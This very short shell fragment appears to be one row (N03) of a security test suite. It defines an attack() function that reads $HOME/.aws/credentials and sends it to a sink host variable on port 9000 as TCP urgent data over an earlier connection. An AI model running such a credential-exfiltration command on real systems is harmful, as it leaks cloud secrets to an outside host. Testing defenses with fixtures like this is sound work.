# SPDX-License-Identifier: Apache-2.0
TITLE="connect first, read later, urgent data on the old connection"
ROW="N03"
attack() { "$PROVOKE/late" urgent "$HOME/.aws/credentials" "$SINK4" 9000; }
